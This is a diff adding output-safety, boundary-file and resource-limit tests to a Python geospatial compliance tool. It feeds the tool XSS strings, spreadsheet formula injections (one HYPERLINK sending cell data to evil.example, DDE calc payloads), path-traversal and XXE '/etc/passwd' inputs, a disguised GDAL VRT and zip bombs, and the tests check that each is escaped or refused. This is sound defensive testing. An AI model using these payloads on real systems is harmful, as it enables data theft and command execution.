@@ -15,13 +15,17 @@ from __future__ import annotations
 
 import contextlib
 import functools
+import html
+import html.parser
 import io
 import json
 import math
 import os
+import re
 import subprocess
 import sys
 import zipfile
+from collections import Counter
 from pathlib import Path
 from typing import Any
 
@@ -440,3 +444,453 @@ def test_cli_subprocess_on_a_binary_file(tmp_path: Path) -> None:
     assert done.returncode == 2
     assert "Traceback" not in done.stderr
     assert "garbage.xlsx" in done.stderr
+
+
+# --------------------------------------------------------------------------- output safety
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(2)>',
+    "'><svg onload=alert(3)>",
+    "</script><script>alert(4)</script>",
+    "</SCRIPT ><!--",
+    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\u202egpj.exe",
+    "A\u2066B\u2069C\u200f\u061c",
+    "${alert(5)}`x`\\u003c",
+]
+LUJIAZUI, BEIJING, SHENZHEN = (121.5044, 31.2397), (116.3975, 39.9087), (114.0579, 22.5431)
+
+
+def filing_of(texts: list[str]) -> pd.DataFrame:
+    """Operator OP registered in Shanghai with one CDN in Beijing per text (a violation each),
+    and an operator per text, whose id is that text, registered in Beijing with a Shenzhen CDN."""
+    rows = [("OP", "REG", "HQ", "registration", *LUJIAZUI)]
+    for i, text in enumerate(texts):
+        rows.append(("OP", f"F{i}", text, "cdn", *BEIJING))
+        # The reader strips the ids, and "\t=1+1" and "\r=1+1" must stay two operators.
+        rows.append((f"{text}#{i}", f"{text}/../../R{i}", f"R{i}", "registration", *BEIJING))
+        rows.append((f"{text}#{i}", f"C{i}", f"C{i}", "cdn", *SHENZHEN))
+    frame = pd.DataFrame(rows, columns=["operator_id", "facility_id", "name", "kind", "lon", "lat"])
+    frame["address"] = frame["name"]
+    frame["note"] = frame["name"]
+    return frame
+
+
+class Tags(html.parser.HTMLParser):
+    """Start tags and attributes of a page, and the pages inside its iframes' srcdoc."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str]] = []
+        self.srcdocs: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [(tag, name) for name, _ in attrs]
+        self.srcdocs += [value or "" for name, value in attrs if name == "srcdoc"]
+
+
+def parsed(page: str) -> Tags:
+    parser = Tags()
+    parser.feed(page)
+    parser.close()
+    return parser
+
+
+@pytest.fixture(scope="module")
+def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Path]]:
+    """write_report over the hostile texts, and over plain texts in the same places."""
+    from pilotzone.report import write_report
+
+    written = {}
+    for kind, texts in (("hostile", PAYLOADS), ("plain", [f"plain{i}" for i in range(len(PAYLOADS))])):
+        result = verify(read_facilities(filing_of(texts), crs="wgs84"), zones=zones())
+        assert (result["status"].astype(str) == "violation").sum() == 2 * len(texts)
+        written[kind] = write_report(result, tmp_path_factory.mktemp(kind) / "out", zones=zones())
+    return written
+
+
+@pytest.mark.parametrize("page", ["map.html", "report.html"])
+def test_html_holds_no_markup_from_the_input(reports: dict[str, dict[str, Path]], page: str) -> None:
+    hostile = reports["hostile"][page].read_text(encoding="utf-8")
+    plain = reports["plain"][page].read_text(encoding="utf-8")
+    for text in PAYLOADS:
+        assert text not in hostile or not set(text) & set("<>\"'&")
+    # The same elements and attributes as for plain text (operators sort differently, so
+    # counted, not in order): nothing opened, closed or added by the input, in the page or
+    # in the map it embeds (iframe srcdoc).
+    found, expected = parsed(hostile), parsed(plain)
+    assert Counter(found.tags) == Counter(expected.tags)
+    assert Counter(found.attributes) == Counter(expected.attributes)
+    for inner, inner_plain in zip(found.srcdocs, expected.srcdocs, strict=True):
+        assert Counter(parsed(inner).tags) == Counter(parsed(inner_plain).tags)
+        assert Counter(parsed(inner).attributes) == Counter(parsed(inner_plain).attributes)
+    assert hostile.lower().count("</script") == plain.lower().count("</script")
+    assert "onerror" not in {name for _, name in found.attributes}
+
+
+def test_map_data_keeps_every_text_whole(reports: dict[str, dict[str, Path]]) -> None:
+    """The facility data is JSON in a script: the texts are in it, escaped, and whole."""
+    page = reports["hostile"]["map.html"].read_text(encoding="utf-8")
+    for text in ("<script>alert(1)</script>", "\u202egpj.exe"):
+        escaped = html.escape(text).replace("`", "&#96;").replace("$", "&#36;")
+        assert json.dumps(escaped)[1:-1].replace("<", "\\u003c").replace("&", "\\u0026") in page
+
+
+def formula_like(value: Any) -> bool:
+    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_spreadsheet_cells_are_neutralised(reports: dict[str, dict[str, Path]]) -> None:
+    import csv
+
+    with open(reports["hostile"]["findings.csv"], encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.reader(file))
+    cells = [cell for row in rows for cell in row]
+    for text in PAYLOADS[5:11]:
+        assert "'" + text.strip() in cells  # kept behind a quote (the reader strips cells)
+    assert not [c for c in cells if formula_like(c) and c != "-" and not _number(c)]
+    book = openpyxl.load_workbook(reports["hostile"]["findings.xlsx"])
+    values = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [c.coordinate for c in values if c.data_type == "f"]
+    assert not [c.value for c in values if formula_like(c.value)]
+    assert "'" + PAYLOADS[5] in {c.value for c in values}
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0#8" in {c.value for c in values}  # an operator id
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_nothing_is_written_outside_the_folder_asked_for(
+    reports: dict[str, dict[str, Path]],
+) -> None:
+    from pilotzone.report import FILES
+
+    folder = reports["hostile"]["map.html"].parent
+    assert sorted(p.name for p in folder.iterdir()) == sorted(FILES)
+    assert sorted(p.name for p in folder.parent.iterdir()) == ["out"]
+    assert {path.parent for path in reports["hostile"].values()} == {folder}
+
+
+def test_a_failed_write_leaves_the_previous_report_whole(
+    reports: dict[str, dict[str, Path]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from pilotzone import report
+
+    folder = tmp_path / "out"
+    folder.mkdir()
+    for name, path in reports["plain"].items():
+        (folder / name).write_bytes(path.read_bytes())
+    before = {p.name: p.read_bytes() for p in folder.iterdir()}
+
+    def half_then_full_disk(table: Any, as_of: Any) -> bytes:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(report, "_xlsx_bytes", half_then_full_disk)
+    result = verify(read_facilities(filing_of(PAYLOADS), crs="wgs84"), zones=zones())
+    with pytest.raises(OSError, match="No space left"):
+        report.write_report(result, folder, zones=zones())
+    after = {p.name: p.read_bytes() for p in folder.iterdir()}
+    assert sorted(after) == sorted(before)  # no temporary file left behind
+    assert after["findings.xlsx"] == before["findings.xlsx"]
+    assert after["map.html"] == before["map.html"]  # not reached: the old one stays
+
+
+# --------------------------------------------------------------------------- boundary files
+
+
+def boundary_file(path: Path, geometry: dict[str, Any] | None, **properties: Any) -> Path:
+    feature = {"type": "Feature", "properties": {"zone_id": "shanghai", **properties},
+               "geometry": geometry}  # fmt: skip
+    path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
+    return path
+
+
+SQUARE = [[121.4, 31.1], [121.6, 31.1], [121.6, 31.3], [121.4, 31.3], [121.4, 31.1]]
+BOW_TIE = [[121.4, 31.1], [121.6, 31.3], [121.6, 31.1], [121.4, 31.3], [121.4, 31.1]]
+
+
+def test_a_bow_tie_is_repaired_with_a_warning_that_says_where(tmp_path: Path) -> None:
+    path = boundary_file(tmp_path / "bow tie.geojson", {"type": "Polygon", "coordinates": [BOW_TIE]})
+    with pytest.warns(UserWarning, match=r"bow tie\.geojson, feature 1, zone_id 'shanghai'"):
+        loaded = load_zones(boundaries=path, accuracy_m=10)
+    shanghai = loaded.set_index("zone_id").geometry["shanghai"]
+    assert shanghai.is_valid
+    assert shanghai.area == pytest.approx(0.02, rel=1e-9)  # two triangles of 0.01 square degrees
+
+
+@pytest.mark.parametrize(
+    ("geometry", "reason"),
+    [
+        ({"type": "Point", "coordinates": [121.5, 31.2]}, "a Point, not a Polygon"),
+        ({"type": "LineString", "coordinates": SQUARE}, "a LineString, not a Polygon"),
+        (
+            {"type": "GeometryCollection", "geometries": [{"type": "Polygon", "coordinates": [SQUARE]}]},
+            "a GeometryCollection, not a Polygon",
+        ),
+        ({"type": "Polygon", "coordinates": []}, "empty or missing geometry"),
+        (None, "empty or missing geometry"),
+        ({"type": "Polygon", "coordinates": [[[121.4, 31.1], [math.nan, 31.1], [121.6, 31.3], [121.4, 31.1]]]},
+         "NaN or infinite coordinates"),
+        ({"type": "Polygon", "coordinates": [[[121.4, 31.1], [math.inf, 31.1], [121.6, 31.3], [121.4, 31.1]]]},
+         "NaN or infinite coordinates"),
+        ({"type": "Polygon", "coordinates": [[[121.4, 31.1], [121.4, 31.1], [121.4, 31.1], [121.4, 31.1]]]},
+         "no area left once repaired"),
+        ({"type": "Polygon", "coordinates": [[[1e7, 31.1], [1e7 + 1, 31.1], [1e7, 32], [1e7, 31.1]]]},
+         "outside longitude/latitude range"),
+    ],
+)  # fmt: skip
+def test_unusable_boundary_features_are_named(
+    tmp_path: Path, geometry: dict[str, Any] | None, reason: str
+) -> None:
+    from pilotzone.errors import BoundaryDataError
+
+    path = boundary_file(tmp_path / "zones.geojson", geometry)
+    with pytest.raises(BoundaryDataError, match=re.escape(reason)) as caught:
+        load_zones(boundaries=path, accuracy_m=10)
+    assert "zones.geojson" in str(caught.value)
+    assert "feature 1, zone_id 'shanghai'" in str(caught.value)
+
+
+VRT = (
+    "<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>{source}</SrcDataSource>"
+    "<GeometryType>wkbPoint</GeometryType><LayerSRS>WGS84</LayerSRS>"
+    "<GeometryField encoding='PointFromColumns' x='lon' y='lat'/></OGRVRTLayer></OGRVRTDataSource>"
+)
+
+
+@pytest.mark.parametrize("suffix", [".geojson", ".json", ".gpkg", ".shp"])
+def test_gdal_never_opens_a_file_that_is_not_what_its_suffix_says(tmp_path: Path, suffix: str) -> None:
+    """An OGR VRT named like a filing or boundary file would make GDAL read another file
+    (or fetch a URL): its contents would end up in the report."""
+    from pilotzone.errors import BoundaryDataError
+
+    secret = tmp_path / "secret.csv"
+    secret.write_text("operator_id,kind,lon,lat,zone_id\nSECRET,idc,121.5,31.2,shanghai\n")
+    path = tmp_path / f"disguised{suffix}"
+    path.write_text(VRT.format(source=secret))
+    with pytest.raises(InputError, match=f"its contents are not .*as its suffix {suffix} says"):
+        read_facilities(path, crs="wgs84")
+    with pytest.raises(BoundaryDataError, match="its contents are not"):
+        load_zones(boundaries=path, accuracy_m=10)
+
+
+@pytest.mark.parametrize("suffix", [".kml", ".vrt", ".gml", ".csv", ""])
+def test_boundary_files_of_other_types_are_refused(tmp_path: Path, suffix: str) -> None:
+    from pilotzone.errors import BoundaryDataError
+
+    path = tmp_path / f"zones{suffix}"
+    path.write_text('<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
+    with pytest.raises(BoundaryDataError, match="unknown file type"):
+        load_zones(boundaries=path, accuracy_m=10)
+
+
+def manifest_copy(tmp_path: Path) -> tuple[Path, dict[str, Any]]:
+    import shutil
+
+    shipped = Path(load_zones().attrs["boundaries_path"])
+    folder = tmp_path / "boundaries"
+    shutil.copytree(shipped, folder)
+    return folder, json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
+
+
+@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "sub/beijing.geojson", ".hidden"])
+def test_a_manifest_cannot_point_outside_its_folder(tmp_path: Path, name: str) -> None:
+    from pilotzone.errors import BoundaryDataError
+
+    folder, manifest = manifest_copy(tmp_path)
+    manifest["zones"][0]["file"] = name
+    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    with pytest.raises(BoundaryDataError, match="must be a file name inside the manifest's folder"):
+        load_zones(boundaries=folder)
+
+
+def test_a_tampered_zone_file_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
+    from pilotzone.errors import BoundaryDataError
+
+    folder, manifest = manifest_copy(tmp_path)
+    path = folder / manifest["zones"][0]["file"]
+    path.write_bytes(path.read_bytes().replace(b"116.", b"117.", 1))
+    with pytest.raises(BoundaryDataError, match="its sha256 is .* but manifest.json says"):
+        load_zones(boundaries=folder)
+
+
+def test_nan_in_a_hash_matching_zone_file_is_an_error_not_a_crash(tmp_path: Path) -> None:
+    import hashlib
+
+    from pilotzone.errors import BoundaryDataError
+
+    folder, manifest = manifest_copy(tmp_path)
+    entry = manifest["zones"][0]
+    path = folder / entry["file"]
+    collection = json.loads(path.read_text(encoding="utf-8"))
+    zone = next(f for f in collection["features"] if f["properties"].get("role") == "zone")
+    ring = zone["geometry"]["coordinates"][0][0] if zone["geometry"]["type"] == "MultiPolygon" else zone["geometry"]["coordinates"][0]
+    ring[1] = [math.nan, ring[1][1]]
+    path.write_text(json.dumps(collection), encoding="utf-8")  # NaN: a token Python's json reads
+    entry["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
+    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    with pytest.raises(BoundaryDataError, match=r"\(role 'zone'\): NaN or infinite coordinates"):
+        load_zones(boundaries=folder)
+
+
+def test_too_many_vertices_in_a_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from pilotzone import zones as zones_module
+    from pilotzone.errors import BoundaryDataError
+
+    monkeypatch.setattr(zones_module, "MAX_VERTICES", 4)
+    path = boundary_file(tmp_path / "dense.geojson", {"type": "Polygon", "coordinates": [SQUARE]})
+    with pytest.raises(BoundaryDataError, match="dense.geojson is too large: 5 vertices"):
+        load_zones(boundaries=path, accuracy_m=10)
+
+
+# --------------------------------------------------------------------------- resource limits
+
+HUGE = 2**40  # 1 TiB, as a sparse file: no disk used, and far more than any memory here
+
+
+def sparse(path: Path, size: int = HUGE, head: bytes = b"") -> Path:
+    with open(path, "wb") as file:
+        file.write(head)
+        file.truncate(size)
+    return path
+
+
+def test_a_file_larger_than_memory_is_refused_before_it_is_read(tmp_path: Path) -> None:
+    path = sparse(tmp_path / "huge.csv", head=b"operator_id,kind,lon,lat,crs\n")
+    with pytest.raises(InputError) as caught:
+        read_facilities(path)
+    (problem,) = caught.value.problems
+    assert problem.file == "huge.csv"
+    assert f"{HUGE:,} bytes" in problem.reason
+    assert "max_bytes=" in problem.reason
+    assert "pilotzone verify 'dir/*.parquet' --workers N" in problem.reason
+
+
+def test_the_cli_refuses_a_huge_file_with_exit_2(tmp_path: Path) -> None:
+    path = sparse(tmp_path / "huge.xlsx")
+    code, _, err = run_cli("verify", str(path), "--crs", "wgs84", "--as-of", AS_OF)
+    assert code == 2
+    assert "Traceback" not in err
+    assert "huge.xlsx" in err and "more than the limit" in err
+
+
+def test_huge_boundary_files_are_refused_before_they_are_read(tmp_path: Path) -> None:
+    from pilotzone.errors import BoundaryDataError
+
+    path = sparse(tmp_path / "huge.geojson", head=b'{"type": "FeatureCollection"')
+    with pytest.raises(BoundaryDataError, match=f"huge.geojson is too large: {HUGE:,} bytes"):
+        load_zones(boundaries=path, accuracy_m=10)
+
+
+def test_the_default_limit_follows_available_memory(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from pilotzone import facilities
+
+    path = tmp_path / "filing.csv"
+    path.write_text(VALID_CSV, encoding="utf-8")
+    size = path.stat().st_size
+    monkeypatch.setattr(facilities, "_available_memory", lambda: size * facilities.MEMORY_PER_FILE_BYTE)
+    assert len(read_facilities(path)) == 3
+    monkeypatch.setattr(facilities, "_available_memory", lambda: (size - 1) * facilities.MEMORY_PER_FILE_BYTE)
+    with pytest.raises(InputError, match=f"the file is {size:,} bytes, more than the limit of {size - 1:,}"):
+        read_facilities(path)
+    monkeypatch.setattr(facilities, "_available_memory", lambda: None)
+    assert facilities._default_max_bytes() == facilities.FALLBACK_MAX_BYTES
+    assert len(read_facilities(path, max_bytes=size)) == 3
+
+
+@pytest.mark.parametrize("bad", [0, -1, True, 1.5, "10"])
+def test_max_bytes_must_be_a_positive_integer(bad: Any) -> None:
+    with pytest.raises(ValueError, match="max_bytes must be a positive integer"):
+        read_facilities(pd.DataFrame(), max_bytes=bad)
+
+
+def zip_bomb(inner: str, size: int) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(inner, b" " * size)
+    return stream.getvalue()
+
+
+@pytest.mark.parametrize(("suffix", "inner"), [(".kmz", "doc.kml"), (".xlsx", "xl/worksheets/sheet1.xml")])
+def test_archives_that_unpack_beyond_the_limit_are_refused(tmp_path: Path, suffix: str, inner: str) -> None:
+    path = tmp_path / f"bomb{suffix}"
+    path.write_bytes(zip_bomb(inner, 8 * 2**20))
+    assert path.stat().st_size < 2**20 // 8
+    with pytest.raises(InputError, match=f"its contents unpack to {8 * 2**20:,} bytes"):
+        read_facilities(path, crs="wgs84", max_bytes=2**20)
+
+
+def test_parquet_that_uncompresses_beyond_the_limit_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "zeros.parquet"
+    pd.DataFrame({"operator_id": ["A"] * 2**18, "lon": [0.0] * 2**18}).to_parquet(path)
+    assert path.stat().st_size < 2**20 // 4
+    with pytest.raises(InputError, match="its data unpacks to at least"):
+        read_facilities(path, crs="wgs84", max_bytes=2**20 // 4)
+
+
+def lying_workbook(path: Path, *, far_cell: bool, rows: int = 1) -> Path:
+    """A small workbook whose sheet claims the whole grid, A1:XFD1048576; with
+    ``far_cell``, it also holds a value in that last cell."""
+    data, _ = xlsx_bytes(
+        ["operator_id", "kind", "lon", "lat", "crs"], [["A", "idc", 121.5, 31.2, "wgs84"]] * rows
+    )
+    source = zipfile.ZipFile(io.BytesIO(data))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for entry in source.infolist():
+            content = source.read(entry)
+            if entry.filename == "xl/worksheets/sheet1.xml":
+                content = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', content)
+                if far_cell:
+                    content = content.replace(
+                        b"</sheetData>",
+                        b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>',
+                    )
+            target.writestr(entry, content)
+    return path
+
+
+@contextlib.contextmanager
+def memory_cap(extra: int = 4 * 2**30) -> Any:
+    """At most ``extra`` more bytes of address space: were a fix undone, the test fails
+    with MemoryError instead of taking the machine down."""
+    resource = pytest.importorskip("resource")
+    status = Path("/proc/self/status")
+    if not status.exists():
+        pytest.skip("needs /proc/self/status")
+    size = next(int(line.split()[1]) * 1024 for line in status.read_text().splitlines()
+                if line.startswith("VmSize:"))  # fmt: skip
+    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
+    resource.setrlimit(resource.RLIMIT_AS, (size + extra, hard))
+    try:
+        yield
+    finally:
+        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
+
+
+def test_a_workbook_that_claims_the_whole_grid_is_read_as_it_is(tmp_path: Path) -> None:
+    path = lying_workbook(tmp_path / "claims.xlsx", far_cell=False, rows=4000)
+    with memory_cap():
+        sites = read_facilities(path, max_bytes=2**28)
+    assert len(sites) == 4000  # rows of 5 cells, not of the 16,384 the sheet claims
+
+
+def test_a_workbook_of_too_many_cells_is_refused(tmp_path: Path) -> None:
+    path = lying_workbook(tmp_path / "far.xlsx", far_cell=True)
+    assert path.stat().st_size < 20_000
+    with memory_cap(), pytest.raises(InputError, match=r"far.xlsx.*the worksheet has more than"):
+        read_facilities(path, max_bytes=2**30)
